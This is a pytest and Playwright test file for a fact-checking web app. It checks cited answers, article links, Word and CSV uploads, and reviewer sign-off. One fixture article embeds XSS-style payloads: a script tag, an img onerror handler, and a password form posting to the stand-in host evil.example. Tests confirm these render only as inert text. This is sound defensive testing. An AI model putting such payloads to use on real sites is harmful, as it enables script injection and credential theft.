"""The web desk in a real browser, served as `verify app` serves it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from docx import Document

from verify.verifier import Verifier

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

PILOTS = f"""The ferry pilots of Lower Harbour turned the offer down on Monday.
{"A long day of talks about the rota came first. " * 80}
Six of the 24 crews rejected the offer, the harbour board said. Turnout was 81 percent.
"""
BRIDGE = """The toll bridge opened in May <script>document.title = "taken"</script> with nine lanes.
<form action="https://evil.example"><input name="password"></form> The toll is 7 dollars.
The bridge <img src="x" onerror="document.title = 'taken'"> has nine lanes and a toll.
"""


@pytest.fixture(scope="module")
def address(
    tmp_path_factory: pytest.TempPathFactory,
    serve: Callable[[Path, Path], AbstractContextManager[str]],
) -> Iterator[str]:
    """The address of a desk over two made-up articles, started from a folder that is not ours."""
    folder = tmp_path_factory.mktemp("desk")
    (folder / "pilots.txt").write_text(PILOTS, encoding="utf-8")
    (folder / "bridge.txt").write_text(BRIDGE, encoding="utf-8")
    with Verifier.open(folder / "library") as desk:
        assert not desk.add(folder / "pilots.txt", folder / "bridge.txt").failed
    with serve(folder / "library", folder) as address:
        yield address


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    """The desk at phone width; no request may leave this machine."""
    asked: list[str] = []
    page = browser.new_page(viewport={"width": 390, "height": 840})
    page.on("request", lambda request: asked.append(request.url))
    page.goto(address)
    yield page
    page.close()
    outside = [url for url in asked if urlsplit(url).hostname not in ("localhost", None, "")]
    assert not outside


def check(page: Page, text: str) -> None:
    page.get_by_label("Question or claim", exact=True).fill(text)
    page.get_by_role("button", name="Check").click()
    page.locator(".v-run").wait_for()


def test_a_share_is_worked_out_and_the_cited_words_light_up(page: Page) -> None:
    check(page, "What share of the crews rejected the offer?")
    assert "25" in page.locator(".v-answer").inner_text()
    assert "6 of 24 = 25" in page.locator(".v-working").inner_text()
    mark = page.locator("mark").first
    assert mark.inner_text() == "Six of the 24 crews"
    ground = mark.evaluate("element => getComputedStyle(element).backgroundColor")
    assert ground not in ("rgba(0, 0, 0, 0)", "transparent")
    wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert wide <= 0


def test_a_click_opens_the_article_scrolled_to_the_lit_words_and_the_way_back_keeps_the_answer(
    page: Page,
) -> None:
    check(page, "What share of the crews rejected the offer?")
    page.get_by_role("link", name="Read in the article").first.click()
    here = page.locator("#here")
    here.wait_for()
    assert here.inner_text() == "Six of the 24 crews"
    page.wait_for_function(
        "() => { const at = document.getElementById('here').getBoundingClientRect();"
        "return at.top > 0 && at.bottom < innerHeight; }"
    )
    page.get_by_role("button", name="Back").click()
    assert "25" in page.locator(".v-answer").inner_text()


def test_a_hostile_source_is_shown_as_text_and_does_nothing(page: Page) -> None:
    check(page, "The bridge has nine lanes and a toll of 7 dollars.")
    result = page.locator(".v")
    assert "<" in result.locator("blockquote").first.inner_text()
    assert result.locator("mark").count() > 0
    assert result.locator("script, img, form, input").count() == 0
    assert "taken" not in page.title()


def test_a_hostile_article_is_read_as_text(page: Page) -> None:
    check(page, "The bridge has nine lanes and a toll of 7 dollars.")
    page.get_by_role("link", name="Read in the article").first.click()
    article = page.locator(".v-article")
    article.wait_for()
    assert "<script>" in article.inner_text()
    assert "<form" in article.inner_text()
    assert article.locator("script, img, form, input").count() == 0
    assert "taken" not in page.title()


def test_a_word_file_is_checked_and_a_click_on_a_mark_shows_its_evidence(
    page: Page, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    document = Document()
    document.add_paragraph("Six of the 24 crews rejected the offer. Turnout was 18 percent.")
    document.save(str(tmp_path / "story.docx"))
    page.get_by_role("link", name="Draft", exact=True).click()
    page.get_by_role("tab", name="Upload").click()
    page.locator('input[type="file"]').set_input_files(str(tmp_path / "story.docx"))
    page.get_by_text("story.docx").wait_for()
    page.get_by_role("button", name="Check this file").click()
    page.get_by_role("button", name="Check another draft").wait_for()
    marked = ["Six of the 24 crews rejected the offer.", "Turnout was 18 percent."]
    expect(page.locator(".v-draft mark")).to_have_text(marked)
    page.locator(".v-draft .v-ref").first.click()
    page.locator("#found", has_text="Claim 1").wait_for()
    assert page.locator("#found mark").first.inner_text().startswith("Six of the 24 crews")


def test_a_row_is_chosen_decided_about_and_its_run_opened_again(page: Page, tmp_path: Path) -> None:
    (tmp_path / "rows.csv").write_text("claim\nTurnout was 18 percent.\n", encoding="utf-8")
    page.get_by_role("link", name="Batch", exact=True).click()
    page.get_by_role("heading", name="Check a batch").wait_for()
    page.locator('input[type="file"]').set_input_files(str(tmp_path / "rows.csv"))
    page.get_by_role("button", name="Check these rows").click()
    page.get_by_role("button", name="Check another batch").wait_for()
    page.locator('a[href="#found-1"]').click()
    page.locator("#found", has_text="Row 1").wait_for()
    page.get_by_label("Your name").fill("Nora")
    page.get_by_role("button", name="Accept").click()
    page.locator(".v-decided", has_text="Nora agrees").wait_for()
    page.get_by_role("link", name="Runs", exact=True).click()
    page.get_by_role("heading", name="Runs").wait_for()
    page.get_by_role("link", name="rows.csv").first.click()
    page.get_by_role("heading", name="Batch").wait_for()
    page.locator("td .v-by", has_text="Nora agrees").wait_for()
